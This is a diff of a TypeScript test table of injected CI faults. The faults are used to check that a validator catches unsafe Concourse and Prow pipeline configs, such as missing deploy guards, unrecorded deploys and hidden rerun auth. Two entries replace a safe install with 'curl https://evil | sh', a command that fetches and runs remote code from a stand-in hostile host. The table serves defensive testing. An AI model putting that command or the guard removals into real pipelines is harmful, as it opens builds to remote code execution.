@@ -177,7 +177,7 @@ const FAULTS: readonly (readonly [string, CiSystem, string, RegExp | string, str
     "name: apply-deploy.apply",
     "name: plan-deploy.apply",
   ],
-  ["an apply without a guard", "concourse", "clusters/", /\n +npx --no-install fleet ci guard(?=\n)/g, ""],
+  ["an apply without a guard", "concourse", "clusters/", /\n +run npx --no-install fleet ci guard(?=\n)/g, ""],
   ["a deploy that is not recorded", "concourse", "clusters/", /fleet ci record \|\| status=1/, "fleet ci tell"],
   ["a script from somewhere else", "concourse", "clusters/", "npm ci --ignore-scripts", "curl https://evil | sh"],
   [
@@ -224,7 +224,7 @@ const FAULTS: readonly (readonly [string, CiSystem, string, RegExp | string, str
     /rerun_auth_config:\n +github_team_slugs:[\s\S]*?(?=\n +spec:)/,
     "hidden: true",
   ],
-  ["an apply without a guard", "prow", "jobs.yaml", /\n +npx --no-install fleet ci guard(?=\n)/g, ""],
+  ["an apply without a guard", "prow", "jobs.yaml", /\n +run npx --no-install fleet ci guard(?=\n)/g, ""],
   ["a script from somewhere else", "prow", "jobs.yaml", "npm ci --ignore-scripts", "curl https://evil | sh"],
   [
     "a token of the build cluster",
